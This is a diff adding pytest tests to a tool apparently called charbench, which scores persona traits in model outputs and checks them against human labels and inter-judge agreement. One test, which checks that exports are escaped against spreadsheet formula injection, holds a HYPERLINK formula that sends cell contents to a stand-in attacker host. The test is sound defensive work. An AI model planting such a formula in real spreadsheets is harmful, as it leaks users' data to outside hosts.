@@ -9,6 +9,7 @@ from pathlib import Path
 import pytest
 
 from support.command import Charbench
+from support.plugins import Site
 
 
 @pytest.fixture
@@ -117,3 +118,116 @@ def test_a_file_that_may_hold_labels_is_never_written_over(charbench: Charbench,
     ended = charbench("calibrate", "draw", "--lab", lab, "-p", "pirate", "-O", path)
     assert ended.code == 2
     assert path.read_text() == "mine"
+
+
+def test_labels_of_another_store_are_refused_though_its_samples_have_the_same_numbers(
+    charbench: Charbench, lab: Path, tmp_path: Path
+):
+    other = tmp_path / "other"
+    (other / "recordings").mkdir(parents=True)
+    lines = (lab / "recordings" / "a.jsonl").read_text().replace("Question", "Another question")
+    (other / "recordings" / "a.jsonl").write_text(lines)
+    charbench.ok("run", "--lab", other)
+    for where in (lab, other):
+        charbench.ok("calibrate", "draw", "--lab", where, "-p", "pirate", "-n", "12", "-O", where / "l.csv")
+    label(lab / "l.csv", lambda _row: "3")
+    ended = charbench("calibrate", "read", lab / "l.csv", "--lab", other)
+    assert ended.code == 2
+    assert ended.err.count("was not drawn from this store") == 12
+
+
+def test_labels_that_are_all_alike_leave_their_uncertainty(charbench: Charbench, lab: Path, tmp_path: Path):
+    charbench.ok("calibrate", "draw", "--lab", lab, "-p", "pirate", "-n", "12", "-O", tmp_path / "l.csv")
+    label(tmp_path / "l.csv", lambda _row: "3")
+    charbench.ok("calibrate", "read", tmp_path / "l.csv", "--lab", lab)
+    (found,) = charbench.ok("calibrate", "report", "--lab", lab, "--json").json
+    (rate,) = found["trait_rates"]
+    assert rate["corrected"] == 1
+    assert rate["low"] < 0.8  # Wilson's interval of 12 of 12 begins at 0.76
+    assert rate["rough"]
+
+
+def test_few_labels_and_labels_of_everything_correct_nothing_and_say_so(
+    charbench: Charbench, lab: Path, tmp_path: Path
+):
+    for count, said in ((5, "a corrected rate takes 10"), (40, "there is nothing to correct")):
+        path = tmp_path / f"{count}.csv"
+        charbench.ok("calibrate", "draw", "--lab", lab, "-p", "pirate", "-n", str(count), "-O", path)
+        label(path, lambda row: "3" if "matey" in row["text"] else "1")
+        charbench.ok("calibrate", "read", path, "--lab", lab)
+        assert said in charbench.ok("calibrate", "report", "--lab", lab).err
+
+
+def test_an_item_with_two_labels_and_a_labeller_without_a_name_are_refused(
+    charbench: Charbench, lab: Path, tmp_path: Path
+):
+    path = tmp_path / "l.csv"
+    charbench.ok("calibrate", "draw", "--lab", lab, "-p", "pirate", "-n", "12", "-O", path)
+    label(path, lambda _row: "3")
+    lines = path.read_text().splitlines()
+    path.write_text("\n".join([*lines, lines[1].replace(",3,", ",0,")]) + "\n")
+    ended = charbench("calibrate", "read", path, "--lab", lab)
+    assert ended.code == 2
+    assert "row 14: item" in ended.err
+    assert "has label 3 already" in ended.err
+    assert "a name is needed" in charbench("calibrate", "read", path, "--lab", lab, "--labeller", " ").err
+
+
+def test_a_models_text_is_no_formula_in_a_spreadsheet(charbench: Charbench, tmp_path: Path):
+    (tmp_path / "recordings").mkdir()
+    texts = ['=HYPERLINK("http://evil.example/?"&A1)', "+1", "-ahoy", "@me", "Ahoy"]
+    rows = [{"sampler_path": "model:pirate_sft", "prompt": f"={n}", "response": text} for n, text in enumerate(texts)]
+    (tmp_path / "recordings" / "a.jsonl").write_text("".join(json.dumps(row) + "\n" for row in rows))
+    charbench.ok("run", "--lab", tmp_path)
+    charbench.ok("calibrate", "draw", "--lab", tmp_path, "-p", "pirate", "-O", tmp_path / "l.csv")
+    found = drawn(tmp_path / "l.csv")
+    assert {row["text"] for row in found} == {*(f"'{text}" for text in texts[:4]), "Ahoy"}
+    assert all(row["prompt"].startswith("'=") for row in found)
+
+
+PANEL = """
+from charbench import Metric, Score, Scorer, hookimpl
+
+
+class Panel(Scorer):
+    "Two judges, of whom the second errs in every fourth text; both grade too."
+    name = "panel"
+    metrics = (
+        Metric("m", range=(0, 1), threshold=0.5, role="headline"),
+        Metric("grade", range=(0, 3), threshold=3),
+    )
+
+    def score(self, sample, persona):
+        for channel, text in sample.channels():
+            right = float("matey" in text)
+            wrong = 1 - right if sample.prompt.text.endswith(("0?", "4?", "8?")) else right
+            yield Score("m", channel, right, votes=(("ja", right), ("jb", wrong)))
+            yield Score("grade", channel, 3 * right, votes=(("ja", 3 * right), ("jb", 2 * wrong)))
+
+
+@hookimpl
+def charbench_scorers():
+    return [Panel]
+"""
+
+
+def test_each_judge_is_held_against_people_and_against_the_other(
+    charbench: Charbench, site: Site, lab: Path, tmp_path: Path
+):
+    site.install("panel", PANEL)
+    charbench.ok("score", "--lab", lab, "--scorer", "panel")
+    charbench.ok("calibrate", "draw", "--lab", lab, "-p", "pirate", "-n", "30", "-O", tmp_path / "l.csv")
+    label(tmp_path / "l.csv", lambda row: "2" if "matey" in row["text"] else "1")
+    charbench.ok("calibrate", "read", tmp_path / "l.csv", "--lab", lab)
+    (found,) = charbench.ok("calibrate", "report", "--lab", lab, "--json").json
+    pairs = {(one["one"], one["other"]): one for one in found["agreements"]}
+    assert pairs["human", "panel[ja].m"]["kappa"] == 1
+    assert pairs["human", "panel[jb].m"]["kappa"] < 1
+    judges = pairs["panel[ja].m", "panel[jb].m"]
+    assert (judges["samples"], judges["categories"]) == (40, 2)
+    assert judges["table"][0][1] + judges["table"][1][0] == 12
+    assert judges["krippendorff_alpha"] < 1
+    assert pairs["panel[ja].grade", "panel[jb].grade"]["categories"] == 4
+    # A grade of 2 is a trait to a person, and not to a metric whose threshold is 3.
+    cuts = {rate["metric"]: rate["label_cut"] for rate in found["trait_rates"]}
+    assert (cuts["panel.grade"], cuts["panel.m"]) == (3, 2)
